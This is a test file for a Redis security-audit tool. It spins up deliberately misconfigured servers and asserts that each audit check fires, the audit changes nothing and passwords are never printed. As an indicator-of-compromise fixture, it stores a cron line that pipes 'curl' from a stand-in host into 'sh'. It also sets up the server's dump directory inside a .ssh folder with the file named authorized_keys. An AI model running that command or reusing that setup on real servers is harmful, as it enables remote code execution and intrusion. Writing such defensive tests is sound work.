/**
 * `redscope audit` against real redis-server processes: a badly configured one (in a network
 * namespace of its own, so it can listen on all of its interfaces), a weak-password one and a
 * well configured TLS-only one. Every check fires on its bad config and stays quiet on the good
 * one; the audit changes nothing on the server; passwords never appear in the output.
 */
import assert from "node:assert/strict";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { CHECKS } from "../src/audit/index.js";
import { parseTarget, parseTargetList, TargetError } from "../src/audit/target.js";
import { type RedisProcess, startRedis } from "../src/lab/redis.js";
import { encodeCommand, ReplyDecoder } from "../src/resp/index.js";
import type { RespValue } from "../src/resp/types.js";
import { makeCert, tlsConfig } from "./helpers/certs.js";
import { runCli } from "./helpers/cli.js";
import { type RunningHoneypot, startHoneypot } from "./helpers/honeypot-process.js";
import { canMakeNetns, createTestHost, type TestHost } from "./helpers/netns.js";
import { freePort } from "./helpers/ports.js";

const GOOD_SECRET = "kq7-Wd93-long-audit-secret-4711";

/** One command on a fresh plain connection (test setup and before/after snapshots). */
async function call(host: string, port: number, ...args: string[]): Promise<RespValue> {
  return new Promise((resolve, reject) => {
    const s = net.connect({ host, port }, () => s.write(encodeCommand(args)));
    const d = new ReplyDecoder();
    s.on("data", (c) => {
      const v = d.push(c);
      if (v.length > 0) {
        s.destroy();
        resolve(v[0]!);
      }
    });
    s.on("error", reject);
    setTimeout(() => {
      s.destroy();
      reject(new Error(`no reply to ${args[0]}`));
    }, 5000).unref();
  });
}

function text(v: RespValue): string {
  return v.type === "bulk" && v.value
    ? v.value.toString("latin1")
    : v.type === "simple"
      ? v.value
      : "";
}

/** CONFIG GET * as sorted `name=value` lines, and the INFO fields that a write would move. */
async function snapshot(
  host: string,
  port: number,
): Promise<{ config: string[]; state: string[] }> {
  const c = await call(host, port, "CONFIG", "GET", "*");
  const flat = c.type === "array" && c.value ? c.value.map(text) : [];
  const config: string[] = [];
  for (let i = 0; i + 1 < flat.length; i += 2) config.push(`${flat[i]}=${flat[i + 1]}`);
  const info = text(await call(host, port, "INFO", "all"));
  const state = info
    .split("\r\n")
    .filter((l) =>
      /^(db\d+|rdb_changes_since_last_save|role|master_host|connected_slaves|aof_enabled|module):/.test(
        l,
      ),
    );
  return { config: config.sort(), state };
}

interface Report {
  target: string;
  findings: Array<{ id: string; severity: string; evidence: string; remediation: string }>;
  notChecked: Array<{ id: string; reason: string }>;
  passed: Array<{ id: string; detail?: string }>;
  notApplicable: Array<{ id: string; reason: string }>;
  counts: { passed: number; failed: number; notChecked: number; notApplicable: number };
  error?: string;
}

/** Every check the audit has: each report accounts for all of them. */
const CHECK_COUNT = CHECKS.length;

describe("redscope audit", {
  skip: canMakeNetns() ? false : "needs root for a network namespace",
}, () => {
  const procs: RedisProcess[] = [];
  let host: TestHost;
  let tmp = "";
  let bad = "";
  let weak = "";
  let good = "";
  let badPort = 0;
  let mixedPort = 0;
  let mixedTls = 0;
  let replicaPort = 0;

  before(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-audit-"));
    host = createTestHost("audit");
    // The bad server: all interfaces (of its namespace), no password, protected mode off, the
    // 7.0 admin switches on, dir in a .ssh directory, replicating from an unknown master (the
    // root side of the veth, where nothing listens: its attempts stay on the pair).
    const ssh = path.join(tmp, "home", ".ssh");
    fs.mkdirSync(ssh, { recursive: true });
    badPort = 6379;
    procs.push(
      await startRedis({
        host: "0.0.0.0",
        port: badPort,
        netns: host.ns,
        config: [
          "protected-mode no",
          "enable-debug-command yes",
          "enable-module-command yes",
          "enable-protected-configs yes",
          `dir ${ssh}`,
          "dbfilename authorized_keys",
          "user bob on >bobpass ~* +@all",
          `replicaof ${host.localIp} 1`,
          "replica-read-only no",
          'rename-command KEYS ""',
        ],
      }),
    );
    bad = `redis://${host.hostIp}:${badPort}`;
    await call(
      host.hostIp,
      badPort,
      "SET",
      "backup1",
      "\n\n*/1 * * * * curl -fsSL http://x.example/a.sh | sh\n\n",
    );

    const weakPort = await freePort();
    procs.push(
      await startRedis({ host: "127.0.0.1", port: weakPort, config: ["requirepass foobared"] }),
    );
    weak = `redis://127.0.0.1:${weakPort}`;

    // The good server: TLS only, default user off, an application user and an auditor with
    // just what the audit reads, memory capped, AOF on.
    // A year's certificate: one that expires within 30 days is a finding (RS-TLS-002).
    const certs = makeCert(tmp, 400);
    const goodAcl = path.join(tmp, "good-users.acl");
    fs.writeFileSync(
      goodAcl,
      [
        "user default off",
        `user app on >${GOOD_SECRET}-app ~app:* &* -@all +@read +@write +@connection -@dangerous`,
        `user auditor on >${GOOD_SECRET} ~* -@all +ping +auth +hello +info +config|get +acl|whoami +acl|list +acl|dryrun +acl|log +command|info +select +scan`,
        "",
      ].join("\n"),
    );
    const tlsPort = await freePort();
    procs.push(
      await startRedis({
        host: "127.0.0.1",
        port: 0,
        readyPort: tlsPort,
        config: [
          ...tlsConfig(tlsPort, certs),
          "tls-auth-clients optional",
          `aclfile ${goodAcl}`,
          "timeout 300",
          "maxmemory 64mb",
          "appendonly yes",
        ],
      }),
    );
    good = `rediss://auditor:${encodeURIComponent(GOOD_SECRET)}@127.0.0.1:${tlsPort}`;

    // The half-done server: TLS on but the plaintext port still open, a long password, a
    // cache user with every command on its own keys, and a replica attached on loopback.
    mixedTls = await freePort();
    mixedPort = await freePort();
    procs.push(
      await startRedis({
        host: "127.0.0.1",
        port: mixedPort,
        config: [
          ...tlsConfig(mixedTls, certs),
          "tls-auth-clients no",
          `requirepass ${GOOD_SECRET}`,
          `user cache on >${GOOD_SECRET}-cache ~cache:* +@all`,
          "maxmemory 64mb",
          "appendonly yes",
        ],
      }),
    );
    replicaPort = await freePort();
    procs.push(
      await startRedis({
        host: "127.0.0.1",
        port: replicaPort,
        config: [`replicaof 127.0.0.1 ${mixedPort}`, `masterauth ${GOOD_SECRET}`],
      }),
    );
    const linked = Date.now() + 10_000;
    while (!/master_link_status:up/.test(text(await call("127.0.0.1", replicaPort, "INFO")))) {
      if (Date.now() > linked) throw new Error("the replica did not link to its master");
      await new Promise((r) => setTimeout(r, 100));
    }
  });

  after(async () => {
    for (const p of procs) await p.stop();
    host?.destroy();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  async function audit(
    args: string[],
    env: NodeJS.ProcessEnv = {},
  ): Promise<{ code: number | null; reports: Report[]; out: string }> {
    const r = await runCli(["audit", "-f", "json", "--timeout", "3s", ...args], { env });
    assert.equal(r.stderr, "", r.stderr);
    return {
      code: r.code,
      reports: (JSON.parse(r.stdout) as { reports: Report[] }).reports,
      out: r.stdout,
    };
  }

  test("every check fires on the bad server, and the audit changes nothing there", async () => {
    const before = await snapshot(host.hostIp, badPort);
    const { code, reports } = await audit([bad]);
    const after = await snapshot(host.hostIp, badPort);
    assert.deepEqual(after, before, "CONFIG GET * and the server's state are unchanged");
    assert.equal(code, 1);
    const r = reports[0]!;
    assert.equal(r.error, undefined);
    const ids = new Set(r.findings.map((f) => f.id));
    for (const id of [
      "RS-AUTH-001",
      "RS-NET-001",
      "RS-NET-002",
      "RS-ACL-001",
      "RS-ACL-002",
      "RS-TLS-001",
      "RS-CMD-001",
      "RS-CMD-002",
      "RS-REPL-001",
      "RS-IOC-001",
      "RS-IOC-002",
      "RS-VER-001",
      "RS-PERSIST-001",
      "RS-CMD-003",
    ]) {
      assert.ok(ids.has(id), `${id} fires: ${JSON.stringify([...ids])}`);
    }
    assert.deepEqual(r.notChecked, []);
    const acl2 = r.findings.filter((f) => f.id === "RS-ACL-002").map((f) => f.evidence);
    assert.deepEqual(acl2.sort(), ["user bob: +@all ~*", "user default: +@all ~*"]);
    const cmd2 = r.findings.filter((f) => f.id === "RS-CMD-002").map((f) => f.evidence);
    assert.deepEqual(cmd2.sort(), [
      "enable-debug-command yes",
      "enable-module-command yes",
      "enable-protected-configs yes",
    ]);
    assert.match(
      r.findings.find((f) => f.id === "RS-REPL-001")!.evidence,
      new RegExp(`replicating from ${host.localIp.replace(/\./g, "\\.")}:1`),
    );
    assert.match(r.findings.find((f) => f.id === "RS-IOC-002")!.evidence, /db0:"backup1"/);
    // KEYS was renamed away: reported as such, and not as reachable.
    assert.equal(
      r.findings.find((f) => f.id === "RS-CMD-003")!.evidence,
      "not under their names: KEYS",
    );
    assert.doesNotMatch(r.findings.find((f) => f.id === "RS-CMD-001")!.evidence, /KEYS/);
    // The expected peer is not a finding.
    const allowed = await audit([bad, "--allow-peer", host.localIp]);
    assert.ok(!allowed.reports[0]!.findings.some((f) => f.id === "RS-REPL-001"));
  });

  test("a password from the bundled list is found offline", async () => {
    const { code, reports, out } = await audit([weak], { REDISCLI_AUTH: "foobared" });
    assert.equal(code, 1);
    const weakFindings = reports[0]!.findings.filter((f) => f.id === "RS-AUTH-002");
    // The audited user's password, judged once (not again from its hash in ACL LIST).
    assert.deepEqual(
      weakFindings.map((f) => [f.severity, f.evidence]),
      [
        [
          "critical",
          "the audited user's password is a password from the bundled list of weak passwords (8 characters)",
        ],
      ],
    );
    assert.ok(!out.includes("foobared"), "the password is never printed");
  });

  test("the good server: nothing but the version's CVEs; exit 0 without them", async () => {
    const { code, reports, out } = await audit([good, "--tls-insecure"]);
    const r = reports[0]!;
    assert.equal(r.error, undefined);
    assert.deepEqual(
      r.findings.map((f) => f.id),
      ["RS-VER-001"],
      JSON.stringify(r.findings, null, 1),
    );
    assert.deepEqual(r.notChecked, []);
    assert.equal(r.counts.failed, 1);
    assert.equal(r.counts.notChecked, 0);
    assert.equal(r.counts.passed + r.counts.failed + r.counts.notApplicable, CHECK_COUNT);
    assert.equal(code, 1, "Debian's 7.0 has CVEs of CVSS 10");
    assert.ok(!out.includes(GOOD_SECRET), "the password is never printed");
    assert.match(r.target, /^rediss:\/\/auditor@127\.0\.0\.1:\d+$/);
    const quiet = await audit([good, "--tls-insecure", "--skip", "RS-VER-001"]);
    assert.equal(quiet.code, 0);
  });

  test("versions are judged by the intel directory's refreshed CVE table, as scans are", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-audit-intel-"));
    // A refreshed table that knows one CVE only, made up for this test.
    const table = JSON.parse(fs.readFileSync("data/intel/cves.json", "utf8")) as {
      cves: unknown[];
    };
    table.cves = [
      {
        id: "CVE-2099-0001",
        summary: "made up by the audit test",
        unauthenticated: false,
        client_side: false,
        cvss: 9.9,
        affected: [{ branch: "7.0", introduced: "7.0.0" }],
      },
    ];
    fs.writeFileSync(path.join(dir, "cves.json"), JSON.stringify(table));
    try {
      const { reports } = await audit([good, "--tls-insecure", "--intel-dir", dir]);
      const ver = reports[0]!.findings.filter((f) => f.id === "RS-VER-001");
      assert.equal(ver.length, 1);
      assert.match(ver[0]!.evidence, /CVE-2099-0001/);
      assert.doesNotMatch(ver[0]!.evidence, /CVE-2025-49844/, "the bundled table is not read");
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  test("a user without the rights is told what was not checked, not that it passed", async () => {
    const app = good.replace(
      `auditor:${encodeURIComponent(GOOD_SECRET)}`,
      `app:${encodeURIComponent(`${GOOD_SECRET}-app`)}`,
    );
    const { reports } = await audit([app, "--tls-insecure", "--skip", "RS-VER-001"]);
    const r = reports[0]!;
    const skipped = new Map(r.notChecked.map((n) => [n.id, n.reason]));
    for (const id of ["RS-NET-001", "RS-ACL-001", "RS-IOC-001"]) {
      assert.match(skipped.get(id) ?? "", /NOPERM/, `${id}: ${JSON.stringify(r.notChecked)}`);
    }
  });

  test("TLS beside a plaintext port, an attached replica, a user with every command on some keys", async () => {
    const { code, reports, out } = await audit([`redis://127.0.0.1:${mixedPort}`], {
      REDISCLI_AUTH: GOOD_SECRET,
    });
    assert.equal(code, 1);
    const r = reports[0]!;
    const evidence = (id: string): string[] =>
      r.findings
        .filter((f) => f.id === id)
        .map((f) => f.evidence)
        .sort();
    assert.deepEqual(
      [...new Set(r.findings.map((f) => f.id))].sort(),
      [
        "RS-ACL-002",
        "RS-ACL-003",
        "RS-CMD-001",
        "RS-CONN-001",
        "RS-REPL-001",
        "RS-TLS-001",
        "RS-TLS-002",
        "RS-VER-001",
      ],
      JSON.stringify(r.findings, null, 1),
    );
    assert.deepEqual(evidence("RS-TLS-002"), [
      "tls-auth-clients no: clients need no certificate, the password is the only guard",
    ]);
    assert.match(evidence("RS-ACL-003")[0] ?? "", /^aclfile "" with 1 ACL user \(cache\)/);
    assert.deepEqual(evidence("RS-TLS-001"), [
      `tls-port ${mixedTls} and plaintext port ${mixedPort}`,
    ]);
    assert.deepEqual(evidence("RS-REPL-001"), [`replica 127.0.0.1:${replicaPort}`]);
    assert.deepEqual(evidence("RS-ACL-002"), [
      "user cache: +@all (keys ~cache:*; CONFIG, MODULE and the like take no key)",
      "user default: +@all ~*",
    ]);
    assert.deepEqual(r.notChecked, []);
    assert.ok(!out.includes(GOOD_SECRET));
    const allowed = await audit([`redis://127.0.0.1:${mixedPort}`, "--allow-peer", "127.0.0.1"], {
      REDISCLI_AUTH: GOOD_SECRET,
    });
    assert.ok(!allowed.reports[0]!.findings.some((f) => f.id === "RS-REPL-001"));
  });

  test("text and SARIF; bad input is one line and exit 2", async () => {
    const t = await runCli(["audit", bad, "--timeout", "3s"]);
    assert.equal(t.code, 1);
    assert.match(t.stdout, /CRITICAL RS-AUTH-001 {2}reachable without authentication/);
    assert.match(t.stdout, /fix: {2}requirepass/);
    const s = await runCli(["audit", bad, "-f", "sarif", "--timeout", "3s"]);
    const sarif = JSON.parse(s.stdout) as {
      version: string;
      runs: Array<{
        tool: { driver: { rules: Array<{ id: string }> } };
        results: Array<{ ruleId: string; level: string }>;
      }>;
    };
    assert.equal(sarif.version, "2.1.0");
    const rules = new Set(sarif.runs[0]!.tool.driver.rules.map((x) => x.id));
    for (const res of sarif.runs[0]!.results) assert.ok(rules.has(res.ruleId), res.ruleId);
    assert.ok(
      sarif.runs[0]!.results.some((x) => x.ruleId === "RS-AUTH-001" && x.level === "error"),
    );
    for (const [args, msg] of [
      [["audit", "http://x:1"], /^redscope: "http:\/\/x:1": use redis:\/\/ or rediss:\/\/\n$/],
      [
        ["audit", "redis://u:hunter2@h:1", "--fail-on", "bad"],
        /^redscope: --fail-on "bad": use one of/,
      ],
      [["audit"], /^redscope: no target/],
      [["audit", "--skip", "RS-NOPE", "redis://h:1"], /^redscope: --skip "RS-NOPE": no such check/],
    ] as const) {
      const r = await runCli([...args]);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, msg);
      assert.ok(!r.stderr.includes("hunter2"));
    }
    // A server that is not there: reported as not audited, exit 1.
    const gone = await runCli([
      "audit",
      `redis://127.0.0.1:${await freePort()}`,
      "--timeout",
      "1s",
    ]);
    assert.equal(gone.code, 1);
    assert.match(gone.stdout, /could not audit: .*ECONNREFUSED/);
  });
});

/**
 * Debian ships only Redis 7.0, so the version branches of the audit (no ACL before 6.0; no
 * ACL DRYRUN before 7.0, where the user's rules decide) run against honeypot personas, which
 * answer INFO with what real 5.0.8 and 6.2.16 servers recorded and refuse what those lacked.
 */
describe("audit across versions (honeypot personas of 5.0 and 6.2)", () => {
  let hp: RunningHoneypot;
  before(async () => {
    hp = await startHoneypot([
      "--no-db",
      "-o",
      os.devNull,
      "--listen",
      "127.0.0.1:0/redis-5.0-open",
      "--listen",
      "127.0.0.1:0/redis-6.2-open",
    ]);
  });
  after(async () => {
    await hp?.stop();
  });

  async function auditPersona(name: string): Promise<Report> {
    const r = await runCli([
      "audit",
      "-f",
      "json",
      "--timeout",
      "3s",
      `redis://127.0.0.1:${hp.ports.get(name)}`,
    ]);
    assert.equal(r.code, 1, r.stderr);
    return (JSON.parse(r.stdout) as { reports: Report[] }).reports[0]!;
  }

  test("5.0: no ACL, so every existing command is reachable and rename-command is the fix", async () => {
    const r = await auditPersona("redis-5.0-open");
    const ids = new Set(r.findings.map((f) => f.id));
    assert.ok(!ids.has("RS-ACL-001") && !ids.has("RS-ACL-002"), [...ids].join());
    assert.ok(!ids.has("RS-CMD-002"), "the 7.0 switches do not exist on 5.0");
    assert.deepEqual(r.notChecked, [], "no ACL is not a missing permission");
    const cmd = r.findings.find((f) => f.id === "RS-CMD-001")!;
    // DEBUG too: before 7.0 a default server answers it (no enable-debug-command gate).
    assert.match(cmd.evidence, /^CONFIG, MODULE, DEBUG, EVAL, SLAVEOF, REPLICAOF, FLUSHALL, KEYS$/);
    assert.match(cmd.remediation, /^rename-command CONFIG ""/);
    assert.ok(ids.has("RS-AUTH-001") && ids.has("RS-VER-001"));
  });

  test("6.2: no ACL DRYRUN, so the user's ACL rules decide", async () => {
    const r = await auditPersona("redis-6.2-open");
    const by = (id: string) => r.findings.find((f) => f.id === id);
    assert.equal(by("RS-ACL-001")?.evidence, "user default on nopass ~* &* +@all");
    assert.equal(by("RS-ACL-002")?.evidence, "user default: +@all ~*");
    assert.match(by("RS-CMD-001")!.remediation, /^ACL SETUSER default -@dangerous/);
    assert.deepEqual(r.notChecked, []);
  });
});

describe("audit targets", () => {
  test("URLs, credentials from the URL or the fallback, IPv6, files; passwords never in labels or errors", () => {
    const t = parseTarget("rediss://ops:p%40ss@[::1]:6380", { password: "fallback" });
    assert.deepEqual(
      {
        tls: t.tls,
        host: t.host,
        port: t.port,
        user: t.user,
        password: t.password,
        label: t.label,
      },
      {
        tls: true,
        host: "::1",
        port: 6380,
        user: "ops",
        password: "p@ss",
        label: "rediss://ops@[::1]:6380",
      },
    );
    const f = parseTarget("redis://10.0.0.5", { user: "auditor", password: "s3cret" });
    assert.equal(f.port, 6379);
    assert.equal(f.password, "s3cret");
    assert.equal(f.label, "redis://auditor@10.0.0.5:6379");
    const list = parseTargetList("# servers\nredis://a:1\n\n  rediss://b:2  \n");
    assert.deepEqual(
      list.map((x) => x.label),
      ["redis://a:1", "rediss://b:2"],
    );
    assert.throws(
      () => parseTargetList("redis://a:1\nhttp://u:topsecret@b:2\n"),
      (e: Error) => {
        assert.match(e.message, /^line 2: /);
        assert.ok(!e.message.includes("topsecret"), e.message);
        return e instanceof TargetError;
      },
    );
  });
});
